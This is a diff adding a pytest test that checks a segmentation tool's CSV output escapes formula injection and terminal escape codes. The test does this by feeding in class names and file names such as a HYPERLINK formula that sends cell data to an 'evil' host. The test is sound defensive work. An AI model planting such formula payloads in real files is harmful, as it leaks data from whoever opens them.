@@ -177,6 +177,27 @@ def test_classes_with_the_names_of_other_columns(tiny_checkpoint, run, scans, tm
         assert float(row[f"{column} low"]) == pytest.approx(record[name]["interval"][0], abs=1e-3)
 
 
+def test_no_cell_of_the_table_is_a_formula(tiny_checkpoint, run, scans, tmp_path):
+    evil = '=HYPERLINK("http://evil/?"&A1)'
+    classes = (
+        ClassInfo(name="background", colour="#000000"),
+        ClassInfo(name=evil, colour="#ff0000"),
+        ClassInfo(name="-1+1", colour="#00ff00"),
+    )
+    bare = tiny_checkpoint(3, 3)
+    named = Checkpoint(bare.metadata.model_copy(update={"classes": classes}), bare.model)
+    path = save_checkpoint(named, tmp_path / "evil.safetensors")
+    scan = (scans / "scan0.nii.gz").rename(scans / "@SUM(1)\x1b[2J.nii.gz")
+    assert run(scan, model=path).exit_code == 0
+    text = (tmp_path / "out" / "volumes.csv").read_text()
+    assert "\x1b" not in text
+    (row,) = rows(tmp_path / "out")
+    assert row["case"] == "'@SUM(1)?[2J"
+    assert float(row[f"'{evil}"]) >= 0 and float(row["'-1+1"]) >= 0
+    again = run(scan, model=path)
+    assert again.exit_code == 0 and "1 already there" in again.stdout
+
+
 def test_finished_cases_are_skipped_until_something_changes(run, scans, tmp_path):
     out = tmp_path / "out"
     run(scans)
